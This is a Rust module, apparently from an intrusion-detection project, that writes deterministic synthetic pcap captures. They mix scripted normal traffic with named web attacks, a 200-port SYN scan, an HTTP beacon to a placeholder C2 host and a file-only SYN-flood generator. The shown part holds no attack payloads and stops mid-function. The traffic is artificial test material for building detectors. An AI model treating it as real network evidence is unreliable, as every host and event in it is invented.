//! The scripted captures: the demo (normal traffic plus attacks, a scan and a beacon), the
//! benign capture (normal traffic only) and the streaming SYN flood.
//!
//! Network model: a client LAN 10.10.0.0/24 behind a router (10.10.0.1) with a resolver
//! (10.10.0.2) and a DMZ web server (10.10.0.20) on the same segment, a VLAN 42 segment
//! 10.10.42.0/24, and an IPv6 prefix 2001:db8:10::/64. The sensor sits on the LAN side of
//! the router, so remote hosts appear behind the router's MAC with TTLs reduced by their
//! hop count, and every frame is padded to the Ethernet minimum as a mirror port shows it.

use std::collections::BTreeSet;
use std::fs::File;
use std::io::{self, BufWriter};
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
use std::path::Path;

use vedette_types::{ip_proto, Timestamp};

use crate::dns::{rtype, DnsMessage, DnsRecord, RData};
use crate::http::{
    css_body, html_page, js_body, json_body, HttpRequest, HttpResponse, UA_CHROME, UA_CURL,
    UA_FIREFOX,
};
use crate::packet::{
    arp_frame, icmp_echo, ipv4_fragments, ipv4_multicast_mac, tcp_flags, tcp_frame, udp_datagram,
    udp_frame, Endpoints, IpParams, Link, MacAddr, TcpHeader,
};
use crate::pcap::PcapWriter;
use crate::rng::Rng;
use crate::tcp::{Packet, Side, TcpSession, TcpSessionConfig};
use crate::tls::{self, ClientHello, ServerHello};
use crate::x509::{build_certificate, random_key_id, random_serial, Cert, CertSpec};

/// Start of every generated capture: 2026-01-15T09:00:00Z.
pub const DEMO_EPOCH_SECS: i64 = 1_768_467_600;
/// Nominal length of the demo and benign captures in seconds of packet time.
pub const DEMO_DURATION_SECS: i64 = 300;
/// Target of the SYN flood.
pub const SYN_FLOOD_TARGET: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 1);
/// First source address of the SYN flood; source `i` is this address plus `i`.
pub const SYN_FLOOD_FIRST_SOURCE: Ipv4Addr = Ipv4Addr::new(1, 0, 0, 0);

/// The router between the LAN and the Internet.
pub const GATEWAY: Ipv4Addr = Ipv4Addr::new(10, 10, 0, 1);
/// The LAN's recursive resolver.
pub const RESOLVER: Ipv4Addr = Ipv4Addr::new(10, 10, 0, 2);
/// The syslog collector.
pub const SYSLOG_SERVER: Ipv4Addr = Ipv4Addr::new(10, 10, 0, 5);
/// The DMZ web server (`intranet.example.com`): attack and scan target.
pub const DMZ_WEB: Ipv4Addr = Ipv4Addr::new(10, 10, 0, 20);
/// The infected workstation that beacons.
pub const BEACON_HOST: Ipv4Addr = Ipv4Addr::new(10, 10, 0, 23);
/// The beacon's command-and-control server (`cdn-status.example.net`).
pub const BEACON_C2: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 77);
/// The internal host running the SYN port scan.
pub const SCANNER: Ipv4Addr = Ipv4Addr::new(10, 10, 0, 66);
/// The external host sending web attacks to [`DMZ_WEB`].
pub const ATTACKER: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 66);
/// VLAN id of the tagged session.
pub const VLAN_ID: u16 = 42;
/// Ports found open by the port scan.
pub const SCAN_OPEN_PORTS: [u16; 3] = [22, 80, 443];
/// Number of ports probed by the port scan.
pub const SCAN_PORT_COUNT: usize = 200;

const ROUTER_MAC: MacAddr = [0x00, 0x0d, 0xb9, 0x4a, 0x10, 0x01];
const V6_CLIENT: Ipv6Addr = Ipv6Addr::new(0x2001, 0xdb8, 0x10, 0, 0, 0, 0, 0x11);
const V6_SERVER: Ipv6Addr = Ipv6Addr::new(0x2001, 0xdb8, 0xcafe, 0, 0, 0, 0, 0x80);
const VLAN_CLIENT: Ipv4Addr = Ipv4Addr::new(10, 10, 42, 5);
const VLAN_SERVER: Ipv4Addr = Ipv4Addr::new(10, 10, 42, 10);
const CLIENTS: [u8; 12] = [11, 12, 13, 14, 15, 16, 17, 18, 19, 31, 32, 33];

/// Counts of what a generated capture contains, per kind of activity.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct SessionCounts {
    /// TCP connections carrying HTTP (including attacks, beacons, IPv6 and VLAN ones).
    pub http_sessions: u32,
    /// HTTP requests in those connections.
    pub http_requests: u32,
    /// HTTP requests carrying an attack (SQL injection, traversal, Log4Shell, sqlmap).
    pub http_attacks: u32,
    /// DNS query/response exchanges over UDP.
    pub dns_udp: u32,
    /// DNS query/response exchanges over TCP.
    pub dns_tcp: u32,
    /// TLS sessions (any version).
    pub tls_sessions: u32,
    /// Of which TLS 1.3.
    pub tls13_sessions: u32,
    /// ICMP/ICMPv6 echo request/reply pairs.
    pub icmp_echo_pairs: u32,
    /// Ports probed by the SYN port scan.
    pub scan_ports: u32,
    /// Miscellaneous UDP datagrams (NTP, SSDP, syslog).
    pub udp_noise: u32,
    /// TCP sessions over IPv6.
    pub ipv6_sessions: u32,
    /// Sessions carried in 802.1Q-tagged frames.
    pub vlan_sessions: u32,
    /// UDP datagrams sent as IPv4 fragments.
    pub fragmented_datagrams: u32,
    /// Beacon check-ins.
    pub beacons: u32,
    /// ARP request/reply pairs.
    pub arp_pairs: u32,
}

/// What a written capture holds.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct DemoSummary {
    /// Packets written.
    pub packets: u64,
    /// Size of the pcap file in bytes (headers included).
    pub bytes: u64,
    /// Activities per kind.
    pub sessions: SessionCounts,
}

/// A generated capture held in memory: frames in time order and what they contain.
#[derive(Clone, Debug, Default)]
pub struct Capture {
    /// Frames sorted by time (stable for equal times).
    pub packets: Vec<Packet>,
    /// Activities per kind.
    pub counts: SessionCounts,
}

impl Capture {
    /// Writes the frames as a pcap stream and returns the summary.
    pub fn write_to<W: io::Write>(&self, w: W) -> io::Result<DemoSummary> {
        let mut pw = PcapWriter::new(w)?;
        for p in &self.packets {
            pw.write_packet(p.ts, &p.frame)?;
        }
        pw.flush()?;
        Ok(DemoSummary {
            packets: pw.packets(),
            bytes: pw.bytes(),
            sessions: self.counts.clone(),
        })
    }

    /// Writes the frames to a pcap file at `path`.
    pub fn write_file(&self, path: &Path) -> io::Result<DemoSummary> {
        let file = File::create(path)?;
        self.write_to(BufWriter::with_capacity(1 << 20, file))
    }
}

/// Writes the deterministic demo capture (same seed, same bytes) to `path`.
///
/// About five minutes of traffic from 2026-01-15T09:00:00Z: web browsing (keep-alive,
/// pipelining, POST, chunked), four web attacks against the DMZ server, DNS over UDP and
/// TCP, TLS 1.2 and 1.3 sessions with certificates, pings, a 200-port SYN scan, NTP/SSDP/
/// syslog noise, an IPv6 session, a VLAN-tagged session, a fragmented DNS answer and an
/// HTTP beacon every 30 s.
pub fn write_demo_capture(path: &Path, seed: u64) -> io::Result<DemoSummary> {
    demo_capture(seed).write_file(path)
}

/// Writes a capture of normal traffic only (web, DNS, TLS, ICMP): no attack, scan, flood
/// or beacon. Deterministic in `seed`.
pub fn write_benign_capture(path: &Path, seed: u64) -> io::Result<DemoSummary> {
    benign_capture(seed).write_file(path)
}

/// The demo capture in memory (see [`write_demo_capture`]).
pub fn demo_capture(seed: u64) -> Capture {
    let mut w = World::new(seed ^ 0xde30_de30);
    w.normal_traffic(12, 10);
    w.extra_dns(true);
    w.dns_over_tcp();
    w.fragmented_dns();
    w.ipv6_session();
    w.vlan_session();
    w.udp_noise();
    w.attacks();
    w.port_scan();
    w.beacon();
    w.into_capture()
}

/// The benign capture in memory (see [`write_benign_capture`]).
pub fn benign_capture(seed: u64) -> Capture {
    let mut w = World::new(seed ^ 0xbe41_9e00);
    w.normal_traffic(16, 10);
    w.extra_dns(false);
    w.dns_over_tcp();
    w.ipv6_session();
    w.into_capture()
}

/// Writes `sources` TCP SYNs to 10.0.0.1:80, the `i`-th from 1.0.0.0 + `i` with a random
/// source port, 1 µs apart, streaming to `path`. Returns the number of packets written.
pub fn write_syn_flood(path: &Path, sources: u32, seed: u64) -> io::Result<u64> {
    let file = File::create(path)?;
    let mut w = PcapWriter::new(BufWriter::with_capacity(1 << 20, file))?;
    let mut rng = Rng::new(seed ^ 0x5f10_0d00);
    let start = Timestamp::from_secs(DEMO_EPOCH_SECS);
    let link = Link::new(ROUTER_MAC, host_mac(IpAddr::V4(SYN_FLOOD_TARGET))).with_padding(true);
    let first = u32::from(SYN_FLOOD_FIRST_SOURCE);
    for i in 0..sources {
        let src = Ipv4Addr::from(first.wrapping_add(i));
        let ep = Endpoints::new(
            IpAddr::V4(src),
            rng.range(1024, 65535) as u16,
            IpAddr::V4(SYN_FLOOD_TARGET),
            80,
        );
        // Flood tools randomise what is cheap to randomise and leave the rest fixed.
        let ip = IpParams {
            ttl: rng.range(40, 250) as u8,
            id: rng.next_u16(),
            dont_fragment: false,
            tos: 0,
            flow_label: 0,
        };
        let hdr = TcpHeader {
            seq: rng.next_u32(),
            ack: 0,
            flags: tcp_flags::SYN,
            window: 512,
            urgent: 0,
            options: &[],
        };
        let frame = tcp_frame(&link, &ip, &ep, &hdr, &[]);
        w.write_packet(start.add_nanos(i64::from(i) * 1000), &frame)?;
    }
    w.flush()?;
    Ok(w.packets())
}

/// A stable pseudo-random MAC for a LAN host, with a real vendor prefix.
fn host_mac(ip: IpAddr) -> MacAddr {
    const OUIS: [[u8; 3]; 5] = [
        [0x3c, 0x22, 0xfb], // Apple
        [0x00, 0x1b, 0x21], // Intel
        [0xf4, 0x8e, 0x38], // Dell
        [0x52, 0x54, 0x00], // QEMU/KVM
        [0xb8, 0x27, 0xeb], // Raspberry Pi
    ];
    let key = match ip {
        IpAddr::V4(a) => u64::from(u32::from(a)),
        IpAddr::V6(a) => {
            let o = a.octets();
            o.iter().fold(0u64, |h, &b| h.rotate_left(8) ^ u64::from(b))
        }
    };
    let h = Rng::new(key ^ 0x3ac).next_u64().to_le_bytes();
    let oui = OUIS[(h[0] % 5) as usize];
    [oui[0], oui[1], oui[2], h[1], h[2], h[3]]
}

/// Whether a host sits on the captured segment (its own MAC is visible).
fn is_local(ip: IpAddr) -> bool {
    match ip {
        IpAddr::V4(a) => {
            let o = a.octets();
            o[0] == 10 && o[1] == 10 && (o[2] == 0 || o[2] == 42)
        }
        IpAddr::V6(a) => a.segments()[..4] == [0x2001, 0xdb8, 0x10, 0],
    }
}

/// MAC that frames to or from `ip` carry on the captured segment.
fn mac_on_segment(ip: IpAddr) -> MacAddr {
    match ip {
        IpAddr::V4(a) if a.is_multicast() => ipv4_multicast_mac(a),
        ip if is_local(ip) => host_mac(ip),
        _ => ROUTER_MAC,
    }
}

/// TTL a packet from `ip` has when the sensor sees it: 64 on the segment, the initial TTL
/// of its OS minus a stable hop count otherwise.
fn ttl_seen(ip: IpAddr) -> u8 {
    if is_local(ip) {
        return 64;
    }
    let h = host_mac(ip);
    let hops = 6 + h[4] % 10;
    if h[5] & 3 == 0 {
        128 - hops // a Windows server
    } else {
        64 - hops
    }
}

/// One name the resolver knows.
struct Site {
    name: &'static str,
    addr: Ipv4Addr,
    cname: Option<&'static str>,
    v6: Option<Ipv6Addr>,
}

const fn site(name: &'static str, a: [u8; 4], cname: Option<&'static str>) -> Site {
    Site {
        name,
        addr: Ipv4Addr::new(a[0], a[1], a[2], a[3]),
        cname,
        v6: None,
    }
}

const SITES: &[Site] = &[
    Site {
        name: "www.example.com",
        addr: Ipv4Addr::new(198, 51, 100, 10),
        cname: None,
        v6: Some(V6_SERVER),
    },
    site("news.example.org", [198, 51, 100, 20], None),
    site("shop.example.net", [198, 51, 100, 30], None),
    site(
        "static.example.com",
        [203, 0, 113, 40],
        Some("static.example-cdn.net"),
    ),
    site("blog.example.org", [198, 51, 100, 50], None),
    site("api.example.net", [198, 51, 100, 60], None),
    site("wiki.example.com", [198, 51, 100, 70], None),
    site("mail.example.org", [198, 51, 100, 80], None),
    site("login.example.net", [198, 51, 100, 90], None),
    site(
        "cdn.example.com",
        [203, 0, 113, 41],
        Some("cdn.example-cdn.net"),
    ),
    site("docs.example.org", [198, 51, 100, 100], None),
    site("update.example.com", [198, 51, 100, 110], None),
    site("chat.example.net", [198, 51, 100, 120], None),
    site(
        "video.example.org",
        [203, 0, 113, 42],
        Some("video.example-cdn.net"),
    ),
    site("tls13.example.com", [198, 51, 100, 130], None),
    site("cdn-status.example.net", [198, 51, 100, 77], None),
    site("intranet.example.com", [10, 10, 0, 20], None),
];

fn find_site(name: &str) -> Option<&'static Site> {
    SITES.iter().find(|s| s.name == name)
}

/// The zone apex of a name (its last two labels).
fn zone_of(name: &str) -> &str {
    let mut dots = name.rmatch_indices('.');
    match (dots.next(), dots.next()) {
        (Some(_), Some((i, _))) => &name[i + 1..],
        _ => name,
    }
}

fn soa_for(name: &str) -> DnsRecord {
    let zone = zone_of(name);
    DnsRecord::new(
        zone,
        900,
        RData::Soa {
            mname: format!("ns1.{zone}"),
            rname: format!("hostmaster.{zone}"),
            serial: 2_026_011_501,
            refresh: 7200,
            retry: 3600,
            expire: 1_209_600,
            minimum: 300,
        },
    )
}

/// The resolver's answer to `query` (first question only).
fn resolve(query: &DnsMessage) -> DnsMessage {
    let Some(q) = query.questions.first() else {
        return query.answer(Vec::new());
    };
    let Some(site) = find_site(&q.name) else {
        return query.nxdomain(soa_for(&q.name));
    };
    let mut answers = Vec::new();
    let mut owner = site.name.to_string();
    if let Some(target) = site.cname {
        answers.push(DnsRecord::new(site.name, 3600, RData::Cname(target.into())));
        owner = target.into();
    }
    match q.qtype {
        rtype::A => answers.push(DnsRecord::new(&owner, 300, RData::A(site.addr))),
        rtype::AAAA => {
            if let Some(v6) = site.v6 {
                answers.push(DnsRecord::new(&owner, 300, RData::Aaaa(v6)));
            }
        }
        _ => {}
    }
    if answers.iter().all(|r| matches!(r.data, RData::Cname(_))) {
        // NODATA: the name exists but has no record of this type.
        let mut r = query.answer(answers);
        r.authorities.push(soa_for(&owner));
        return r;
    }
    query.answer(answers)
}

/// How a scripted connection ends.
#[derive(Clone, Copy, Debug)]
enum Close {
    /// Orderly FIN exchange started by this side.
    Fin(Side),
    /// Abortive RST/ACK from this side.
    Rst(Side),
}

/// Builder state of one capture.
struct World {
    rng: Rng,
    start: i64,
    packets: Vec<Packet>,
    counts: SessionCounts,
    used_ports: BTreeSet<(IpAddr, u16)>,
    ca: Cert,
}

const MS: i64 = 1_000_000;
const SEC: i64 = 1_000_000_000;

impl World {
    fn new(seed: u64) -> Self {
        let mut rng = Rng::new(seed);
        let ca_key = random_key_id(&mut rng);
        let ca_spec = CertSpec {
            subject_cn: "Vedette Demo CA".into(),
            subject_org: "Vedette Demo".into(),
            issuer_cn: "Vedette Demo CA".into(),
            issuer_org: "Vedette Demo".into(),
            serial: random_serial(&mut rng),
            not_before: crate::calendar::unix_from_civil(2024, 1, 1, 0, 0, 0),
            not_after: crate::calendar::unix_from_civil(2034, 1, 1, 0, 0, 0),
            dns_names: Vec::new(),
            is_ca: true,
            key_id: ca_key,
            issuer_key_id: ca_key,
        };
        let ca = build_certificate(&ca_spec, &mut rng);
        World {
            rng,
            start: DEMO_EPOCH_SECS * SEC,
            packets: Vec::new(),
            counts: SessionCounts::default(),
            used_ports: BTreeSet::new(),
            ca,
        }
    }

    fn into_capture(mut self) -> Capture {
        self.packets.sort_by_key(|p| p.ts);
        Capture {
            packets: self.packets,
            counts: self.counts,
        }
    }

    /// A random time within the capture window, `margin` seconds from its end.
    fn random_start(&mut self, margin: i64) -> i64 {
        self.start + self.rng.range_i64(SEC, (DEMO_DURATION_SECS - margin) * SEC)
    }

    fn client(&mut self) -> Ipv4Addr {
        let last = self.rng.pick(&CLIENTS).copied().unwrap_or(11);
        Ipv4Addr::new(10, 10, 0, last)
    }

    /// A Linux ephemeral port not yet used by `host` in this capture.
    fn ephemeral(&mut self, host: IpAddr) -> u16 {
        loop {
            let p = self.rng.range(32_768, 60_999) as u16;
            if self.used_ports.insert((host, p)) {
                return p;
            }
        }
    }

    fn link(src: IpAddr, dst: IpAddr) -> Link {
        Link::new(mac_on_segment(src), mac_on_segment(dst)).with_padding(true)
    }

    fn ip_params(&mut self, src: IpAddr) -> IpParams {
        IpParams {
            ttl: ttl_seen(src),
            id: self.rng.next_u16(),
            dont_fragment: true,
            tos: 0,
            flow_label: self.rng.next_u32() & 0x000f_ffff,
        }
    }

    fn push(&mut self, t: i64, frame: Vec<u8>) {
        self.packets.push(Packet {
            ts: Timestamp(t),
            frame,
        });
    }

    fn udp(&mut self, t: i64, ep: Endpoints, payload: &[u8]) {
        let ip = self.ip_params(ep.src);
        let frame = udp_frame(&Self::link(ep.src, ep.dst), &ip, &ep, payload);
        self.push(t, frame);
    }

    fn finish(&mut self, s: TcpSession) {
        self.packets.extend(s.into_packets());
    }

    /// A TCP session on the LAN segment (or across the router), with TTLs and MACs as the
    /// sensor sees them.
    fn tcp(&mut self, client: IpAddr, server: IpAddr, port: u16, t: i64, near: Side) -> TcpSession {
        let sport = self.ephemeral(client);
        let ep = Endpoints::new(client, sport, server, port);
        let mut cfg = TcpSessionConfig::new(
            ep,
            mac_on_segment(client),
            mac_on_segment(server),
            Timestamp(t),
        );
        cfg.pad = true;
        cfg.sensor_near = near;
        cfg.client_ttl = ttl_seen(client);
        cfg.server_ttl = ttl_seen(server);
        cfg.rtt_ns = if is_local(client) && is_local(server) {
            self.rng.range_i64(150_000, 600_000)
        } else {
            self.rng.range_i64(8 * MS, 60 * MS)
        };
        TcpSession::new(cfg, &mut self.rng)
    }

    /// One UDP DNS exchange between `client` and the resolver; returns when the answer
    /// was seen.
    fn dns_exchange(
        &mut self,
        t: i64,
        client: IpAddr,
        sport: u16,
        query: &DnsMessage,
        answer: &DnsMessage,
    ) -> i64 {
        let resolver = IpAddr::V4(RESOLVER);
        let ep = Endpoints::new(client, sport, resolver, 53);
        self.udp(t, ep, &query.encode());
        // A cache hit answers in well under a millisecond, a miss takes a recursion.
        let delay = if self.rng.chance(1, 2) {
            self.rng.range_i64(200_000, 900_000)
        } else {
            self.rng.range_i64(8 * MS, 45 * MS)
        };
        self.udp(t + delay, ep.reversed(), &answer.encode());
        self.counts.dns_udp += 1;
        t + delay
    }

    /// Resolves `name` like glibc: A (and, with `aaaa`, AAAA in parallel from the same
    /// socket). Returns when the last answer arrived.
    fn lookup(&mut self, t: i64, client: Ipv4Addr, name: &str, aaaa: bool) -> i64 {
        let client = IpAddr::V4(client);
        let sport = self.ephemeral(client);
        let q = DnsMessage::query(self.rng.next_u16(), name, rtype::A);
        let mut done = self.dns_exchange(t, client, sport, &q, &resolve(&q));
        if aaaa {
            let q6 = DnsMessage::query(self.rng.next_u16(), name, rtype::AAAA);
            let t6 = t + self.rng.range_i64(20_000, 80_000);
            done = done.max(self.dns_exchange(t6, client, sport, &q6, &resolve(&q6)));
        }
        done
    }

    /// One HTTP connection: requests and responses in order (or pipelined), then a close.
    fn web(
        &mut self,
        mut s: TcpSession,
        exchanges: Vec<(HttpRequest, HttpResponse)>,
        pipelined: bool,
        close: Close,
        idle_ns: i64,
    ) {
        s.handshake();
        if pipelined {
            for (req, _) in &exchanges {
                s.client_send(&req.encode());
            }
            let think = self.rng.range_i64(MS, 8 * MS);
            s.pause(think);
            for (_, resp) in &exchanges {
                let date = s.now();
                s.server_send(&resp.encode(date));
            }
        } else {
            for (i, (req, resp)) in exchanges.iter().enumerate() {
                if i > 0 {
                    // Sub-resources follow the page after the browser has parsed it.
                    let parse = self.rng.range_i64(5 * MS, 400 * MS);
                    s.pause(parse);
                }
                s.client_send(&req.encode());
                let think = self.rng.range_i64(MS, 15 * MS);
                s.pause(think);
                let date = s.now();
                s.server_send(&resp.encode(date));
            }
        }
        self.counts.http_sessions += 1;
        self.counts.http_requests += exchanges.len() as u32;
        s.pause(idle_ns);
        match close {
            Close::Fin(side) => s.close(side),
            Close::Rst(side) => s.reset(side),
        }
        self.finish(s);
    }

    /// The page a browser fetches first.
    fn page(
        &mut self,
        host: &str,
        path: &str,
        ua: &str,
        size: usize,
    ) -> (HttpRequest, HttpResponse) {
        let body = html_page(&mut self.rng, host, size);
        (
            HttpRequest::get(host, path, ua),
            HttpResponse::ok("text/html; charset=utf-8", body),
        )
    }

    fn asset(
        &mut self,
        host: &str,
        path: &str,
        ua: &str,
        referer: &str,
    ) -> (HttpRequest, HttpResponse) {
        let (ctype, body) = if path.ends_with(".css") {
            let n = self.rng.range(3_000, 12_000) as usize;
            ("text/css", css_body(&mut self.rng, n))
        } else {
            let n = self.rng.range(15_000, 70_000) as usize;
            ("application/javascript", js_body(&mut self.rng, n))
        };
        let req = HttpRequest::get(host, path, ua)
            .set_header("Accept", "*/*")
            .header("Referer", referer);
        (req, HttpResponse::ok(ctype, body))
    }

    /// Browsing sessions and TLS sessions of the normal population.
    fn normal_traffic(&mut self, web_sessions: usize, tls_sessions: usize) {
        const WEB: [&str; 7] = [
            "www.example.com",
            "news.example.org",
            "shop.example.net",
            "static.example.com",
            "blog.example.org",
            "api.example.net",
            "wiki.example.com",
        ];
        for i in 0..web_sessions {
            let client = self.client();
            let host = WEB[i % WEB.len()];
            let Some(site) = find_site(host) else {
                continue;
            };
            let t0 = self.random_start(40);
            let aaaa = self.rng.chance(1, 2);
            let t = self.lookup(t0, client, host, aaaa) + self.rng.range_i64(100_000, 900_000);
            let ua = if self.rng.chance(1, 2) {
                UA_FIREFOX
            } else {
                UA_CHROME
            };
            let s = self.tcp(
                IpAddr::V4(client),
                IpAddr::V4(site.addr),
                80,
                t,
                Side::Client,
            );
            let referer = format!("http://{host}/");
            let mut pipelined = false;
            let exchanges = match i {
                // Chunked news page.
                1 => {
                    let size = self.rng.range(20_000, 45_000) as usize;
                    let (req, resp) = self.page(host, "/", ua, size);
                    vec![(req, resp.chunked(4096))]
                }
                // Form POST.
                2 => {
                    let body = b"item=4711&qty=2&csrf=9f1c2ab07e".to_vec();
                    let req = HttpRequest::post(
                        host,
                        "/cart/add",
                        ua,
                        "application/x-www-form-urlencoded",
                        body,
                    )
                    .header("Origin", &format!("http://{host}"))
                    .header("Referer", &referer);
                    let json = br#"{"ok":true,"cart":{"items":3,"total":"59.90"}}"#.to_vec();
                    vec![(req, HttpResponse::ok("application/json", json))]
                }
                // API client: a JSON GET and a 404.
                5 => {
                    let n = self.rng.range(2_000, 9_000) as usize;
                    let json = json_body(&mut self.rng, n);
                    let req = HttpRequest::get(host, "/v1/items?page=2", UA_CURL)
                        .set_header("Accept", "application/json");
                    let missing = HttpRequest::get(host, "/v1/favicon.ico", UA_CURL)
                        .set_header("Accept", "*/*");
                    let nf = HttpResponse::new(
                        404,
                        "Not Found",
                        "text/html",
                        b"<html><body><h1>404 Not Found</h1></body></html>\n".to_vec(),
                    );
                    vec![
                        (req, HttpResponse::ok("application/json", json)),
                        (missing, nf),
                    ]
                }
                // Keep-alive with exactly two requests.
                4 => {
                    let size = self.rng.range(6_000, 20_000) as usize;
                    let page = self.page(host, "/2026/01/winter-notes.html", ua, size);
                    let css = self.asset(host, "/static/site.css", ua, &referer);
                    vec![page, css]
                }
                // Pipelined pair.
                6 => {
                    pipelined = true;
                    let a = self.page(host, "/wiki/Packet", ua, 9_000);
                    let b = self.page(host, "/wiki/Stream", ua, 7_000);
                    vec![a, b]
                }
                _ => {
                    let size = self.rng.range(8_000, 40_000) as usize;
                    let page = self.page(host, "/", ua, size);
                    let css = self.asset(host, "/static/site.css", ua, &referer);
                    let js = self.asset(host, "/static/app.js", ua, &referer);
                    vec![page, css, js]
                }
            };
            let idle = self.rng.range_i64(SEC, 15 * SEC);
            let closer = if self.rng.chance(1, 3) {
                Side::Server
            } else {
                Side::Client
            };
            self.web(s, exchanges, pipelined, Close::Fin(closer), idle);
        }

        const TLS: [&str; 9] = [
            "www.example.com",
            "mail.example.org",
            "login.example.net",
            "cdn.example.com",
            "docs.example.org",
            "update.example.com",
            "chat.example.net",
            "video.example.org",
            "api.example.net",
        ];
        for i in 0..tls_sessions {
            // The last TLS session is TLS 1.3.
            let tls13 = i + 1 == tls_sessions;
            let host = if tls13 {
                "tls13.example.com"
            } else {
                TLS[i % TLS.len()]
            };
            let Some(site) = find_site(host) else {
                continue;
            };
            let client = self.client();
            let t0 = self.random_start(40);
            let aaaa = self.rng.chance(1, 2);
            let t = self.lookup(t0, client, host, aaaa) + self.rng.range_i64(100_000, 900_000);
            let s = self.tcp(
                IpAddr::V4(client),
                IpAddr::V4(site.addr),
                443,
                t,
                Side::Client,
            );
            let rounds = self.rng.range(1, 3) as usize;
            let mut exchanges = Vec::new();
            for _ in 0..rounds {
                let req = self.rng.range(300, 900) as usize;
                let resp = self.rng.range(2_000, 90_000) as usize;
                exchanges.push((req, resp));
            }
            self.tls(s, host, tls13, &exchanges);
        }
    }

    /// A leaf certificate for `host` issued by the capture's CA.
    fn leaf_cert(&mut self, host: &str) -> Cert {
        let spec = CertSpec {
            subject_cn: host.into(),
            subject_org: "Example Hosting Ltd".into(),
            issuer_cn: "Vedette Demo CA".into(),
            issuer_org: "Vedette Demo".into(),
            serial: random_serial(&mut self.rng),
            not_before: crate::calendar::unix_from_civil(2025, 11, 20, 8, 0, 0),
            not_after: crate::calendar::unix_from_civil(2026, 2, 18, 8, 0, 0),
            dns_names: vec![host.into(), zone_of(host).into()],
            is_ca: false,
            key_id: random_key_id(&mut self.rng),
            issuer_key_id: self.ca.key_id,
        };
        build_certificate(&spec, &mut self.rng)
    }

    /// A TLS session: full handshake (1.2 with certificate chain, or 1.3), application data
    /// exchanges of the given plaintext sizes, close_notify, FIN.
    fn tls(&mut self, mut s: TcpSession, host: &str, tls13: bool, exchanges: &[(usize, usize)]) {
        use tls::content_type::{ALERT, HANDSHAKE};
        s.handshake();
        let ch = ClientHello::new(&mut self.rng, host, tls13);
        s.client_send(&ch.to_record());
        let think = self.rng.range_i64(500_000, 4 * MS);
        s.pause(think);
        if tls13 {
            let sh = ServerHello {
                random: self.rng.array32(),
                session_id: ch.session_id.clone(),
                cipher: tls::cipher::TLS_AES_128_GCM_SHA256,
                alpn: None,
                tls13_key_share: Some(self.rng.array32()),
            };
            let mut flight = tls::record(HANDSHAKE, tls::version::TLS12, &sh.encode());
            flight.extend_from_slice(&tls::change_cipher_spec());
            // EncryptedExtensions, Certificate, CertificateVerify, Finished.
            let n = self.rng.range(2_400, 3_800) as usize;
            flight.extend_from_slice(&tls::encrypted_record_tls13(&mut self.rng, n));
            s.server_send(&flight);
            let mut fin = tls::change_cipher_spec();
            fin.extend_from_slice(&tls::encrypted_record_tls13(&mut self.rng, 36));
            s.client_send(&fin);
        } else {
            let alpn = if self.rng.chance(1, 2) {
                "h2"
            } else {
                "http/1.1"
            };
            let sh = ServerHello {
                random: self.rng.array32(),
                session_id: self.rng.bytes(32),
                cipher: tls::cipher::ECDHE_RSA_AES128_GCM_SHA256,
                alpn: Some(alpn.into()),
                tls13_key_share: None,
            };
            let leaf = self.leaf_cert(host);
            let v = tls::version::TLS12;
            let mut flight = tls::record(HANDSHAKE, v, &sh.encode());
            flight.extend_from_slice(&tls::record(
                HANDSHAKE,
                v,
                &tls::certificate(&[leaf.der, self.ca.der.clone()]),
            ));
            flight.extend_from_slice(&tls::record(
                HANDSHAKE,
                v,
                &tls::server_key_exchange(&mut self.rng),
            ));
            flight.extend_from_slice(&tls::record(HANDSHAKE, v, &tls::server_hello_done()));
            s.server_send(&flight);
            let mut cke = tls::record(HANDSHAKE, v, &tls::client_key_exchange(&mut self.rng));
            cke.extend_from_slice(&tls::change_cipher_spec());
            // Finished: 4-byte header + 12 bytes verify_data, encrypted.
            cke.extend_from_slice(&tls::encrypted_record_tls12(&mut self.rng, HANDSHAKE, 16));
            s.client_send(&cke);
            let mut fin = tls::change_cipher_spec();
            fin.extend_from_slice(&tls::encrypted_record_tls12(&mut self.rng, HANDSHAKE, 16));
            s.server_send(&fin);
        }
        for (i, &(req, resp)) in exchanges.iter().enumerate() {
            if i > 0 {
                let gap = self.rng.range_i64(50 * MS, 3 * SEC);
                s.pause(gap);
            }
            s.client_send(&tls::application_data(&mut self.rng, req, tls13));
            let think = self.rng.range_i64(MS, 20 * MS);
            s.pause(think);
            let mut out = Vec::new();
            if tls13 && i == 0 {
                // Two NewSessionTickets precede the first response.
                for _ in 0..2 {
                    out.extend_from_slice(&tls::encrypted_record_tls13(&mut self.rng, 233));
                }
            }
            out.extend_from_slice(&tls::application_data(&mut self.rng, resp, tls13));
            s.server_send(&out);
        }
        let idle = self.rng.range_i64(500 * MS, 10 * SEC);
        s.pause(idle);
        let alert = if tls13 {
            tls::encrypted_record_tls13(&mut self.rng, 2)
        } else {
            tls::encrypted_record_tls12(&mut self.rng, ALERT, 2)
        };
        s.client_send(&alert);
        s.close(Side::Client);
        self.finish(s);
        self.counts.tls_sessions += 1;
        if tls13 {
            self.counts.tls13_sessions += 1;
        }
        self.ping_some();
    }

    /// Occasional pings, so ICMP is spread over the capture.
    fn ping_some(&mut self) {
        if self.rng.chance(1, 3) {
            let client = self.client();
            let t = self.random_start(10);
            let target = if self.rng.chance(1, 2) {
                GATEWAY
            } else {
                Ipv4Addr::new(192, 0, 2, 1)
            };
            self.ping(t, IpAddr::V4(client), IpAddr::V4(target), 3);
        }
    }

    /// `count` iputils-style echo requests one second apart, each answered.
    fn ping(&mut self, t: i64, src: IpAddr, dst: IpAddr, count: u16) {
        let ident = self.rng.next_u16();
        let rtt = if is_local(dst) {
            self.rng.range_i64(150_000, 500_000)
        } else {
            self.rng.range_i64(8 * MS, 40 * MS)
        };
        let link = Self::link(src, dst);
        let mut req_ip = self.ip_params(src);
        let mut rep_ip = self.ip_params(dst);
        for seq in 1..=count {
            let ts = t + i64::from(seq - 1) * SEC + self.rng.range_i64(0, 200_000);
            // iputils payload: a struct timeval (16 bytes on 64-bit Linux) then 0x10, 0x11, ...
            let when = Timestamp(ts);
            let mut payload = Vec::with_capacity(56);
            payload.extend_from_slice(&(when.secs() as u64).to_le_bytes());
            payload.extend_from_slice(&u64::from(when.subsec_micros()).to_le_bytes());
            payload.extend(0x10u8..0x38);
